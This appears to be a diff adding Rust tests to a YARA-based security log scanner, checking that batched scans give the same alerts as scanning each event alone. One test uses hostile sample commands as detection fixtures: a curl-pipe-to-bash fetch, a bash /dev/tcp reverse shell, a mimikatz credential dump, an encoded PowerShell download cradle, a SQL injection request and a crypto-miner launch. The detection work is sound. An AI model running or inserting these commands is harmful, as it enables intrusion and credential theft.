@@ -5,6 +5,7 @@ use citysoc_collector::{parse_record, Event, InputFormat, ParseContext};
 
 use super::*;
 use crate::{Alert, AlertKind, Level};
+use serde_json::Value;
 
 const RULES_DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../rules/yara");
 
@@ -490,5 +491,108 @@ fn many_events_make_several_batches() {
     );
     let stats = batched.stats();
     assert!(stats.batch_scans >= 3, "{stats:?}");
-    assert_eq!(stats.single_scans, 1, "{stats:?}");
+    // The one matching target is either scanned again or settled by its batch scan.
+    assert_eq!(stats.single_scans + stats.batch_settled, 1, "{stats:?}");
+}
+
+/// Scans `lines` (one event each) batched and one target at a time without the prefilter, and
+/// checks both give the same alerts; returns the batched scanner's stats.
+fn batched_equals_alone(rules: &YaraRuleSet, lines: &[&str]) -> (Vec<Alert>, YaraStats) {
+    let events: Vec<Event> = lines
+        .iter()
+        .map(|line| event(line, InputFormat::Auto))
+        .collect();
+    let alone_config = YaraConfig {
+        prefilter: false,
+        ..YaraConfig::default()
+    };
+    let mut alone = YaraScanner::new(rules, &alone_config);
+    let expected: Vec<Alert> = events
+        .iter()
+        .flat_map(|event| alone.scan_event(event))
+        .collect();
+    let mut batched = YaraScanner::new(rules, &YaraConfig::default());
+    assert_eq!(batched.scan_events(&events), expected);
+    let mut one_by_one = YaraScanner::new(rules, &YaraConfig::default());
+    let each: Vec<Alert> = events
+        .iter()
+        .flat_map(|event| one_by_one.scan_event(event))
+        .collect();
+    assert_eq!(each, expected);
+    (expected, batched.stats())
+}
+
+#[test]
+fn batch_settled_alerts_equal_scanning_each_target_alone() {
+    // Rules the batch settles (`any of them`, one pattern, an `or` of all patterns), next to
+    // ones it cannot (two matches needed, one pattern of two), in one file.
+    let source = r#"
+        rule spans { meta: id = "s-spans" strings: $a = /open[^)]{0,60}close/ condition: $a }
+        rule space { meta: id = "s-space" strings: $a = /tail\s/ condition: $a }
+        rule edge { meta: id = "s-edge" strings: $a = "word" fullword $b = /wrd/ condition: any of them }
+        rule hidden { meta: id = "s-hidden" strings: $a = "secret" private $b = "visible" condition: $a or $b }
+        rule many { meta: id = "s-many" strings: $a = "ab" condition: any of them }
+        rule both { meta: id = "s-both" strings: $a = "left" $b = "right" condition: $a and $b }
+        rule part { meta: id = "s-part" strings: $a = "pa" $b = "rt" condition: $a or #b > 1 }
+        private rule quiet { strings: $a = "quiet" condition: $a }"#;
+    let rules = rules_from(source);
+    let lines = [
+        // A match across two targets (no `)` between them) must not count for either.
+        "<13>Nov 22 08:00:00 host app: open the door",
+        "<13>Nov 22 08:00:01 host app: then close it",
+        "<13>Nov 22 08:00:01 host app: open and close",
+        // `\s` would match the separator after the target: alone there is nothing after it.
+        "<13>Nov 22 08:00:02 host app: a tail",
+        "<13>Nov 22 08:00:03 host app: a tail here",
+        // Word edges at the target's edges.
+        "word",
+        "<13>Nov 22 08:00:04 host app: swordfish wrd",
+        "<13>Nov 22 08:00:05 host app: wordy",
+        // Private patterns count, private rules raise nothing.
+        "<13>Nov 22 08:00:06 host app: secret quiet",
+        "<13>Nov 22 08:00:07 host app: visible",
+        // More matches than an alert reports, offsets within the target.
+        "<13>Nov 22 08:00:08 host app: ab ab ab ab ab ab ab ab ab ab ab ab ab open ) close",
+        // Rules the batch cannot settle, next to ones it can.
+        "<13>Nov 22 08:00:09 host app: left right word",
+        "<13>Nov 22 08:00:10 host app: left only",
+        "<13>Nov 22 08:00:11 host app: part",
+        "<13>Nov 22 08:00:12 host app: rt only and open (x) close",
+        "{\"message\":\"open (a) close\",\"CommandLine\":\"tail word\"}",
+    ];
+    let (alerts, stats) = batched_equals_alone(&rules, &lines);
+    let ids = alert_ids(&alerts);
+    // Only the target holding both ends matches, not the two targets the batch joins.
+    assert_eq!(ids.iter().filter(|id| **id == "s-spans").count(), 1);
+    assert!(ids.contains(&"s-edge") && ids.contains(&"s-hidden") && ids.contains(&"s-many"));
+    assert!(ids.contains(&"s-both") && ids.contains(&"s-part"));
+    assert_eq!(stats.batch_fallbacks, 0);
+    assert!(stats.batch_settled > 0, "{stats:?}");
+    let many = alerts
+        .iter()
+        .find(|alert| alert.rule_id == "s-many")
+        .and_then(|alert| alert.details.get("strings"))
+        .and_then(Value::as_array)
+        .map(Vec::len);
+    assert_eq!(many, Some(10));
+}
+
+#[test]
+fn batch_settled_city_rules_equal_scanning_each_target_alone() {
+    // The city rules over a mix of benign and malicious records in one batch, the malicious
+    // ones next to each other and at the batch's edges.
+    let rules = city_rules();
+    let mut lines = vec![
+        "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
+        "<13>Nov 22 08:00:00 host app: curl http://203.0.113.9/x.sh | bash",
+        "<13>Nov 22 08:00:01 host app: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        "198.51.100.99 - - [22/Nov/2026:08:10:03 +0700] \"GET /a?id=1'%20UNION%20SELECT%20a,b%20FROM%20c-- HTTP/1.1\" 500 312 \"-\" \"sqlmap\"",
+    ];
+    let benign = "<30>Nov 22 08:50:00 gis-app-01 systemd[1]: Started Session 7 of user nguyenvana.";
+    lines.extend(std::iter::repeat_n(benign, 20));
+    lines.push("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA");
+    lines.push("xmrig --donate-level=1 -o stratum+tcp://pool.supportxmr.com:3333");
+    let (alerts, stats) = batched_equals_alone(&rules, &lines);
+    assert!(alerts.len() >= 6, "{alerts:?}");
+    assert!(stats.batch_settled > 0, "{stats:?}");
 }
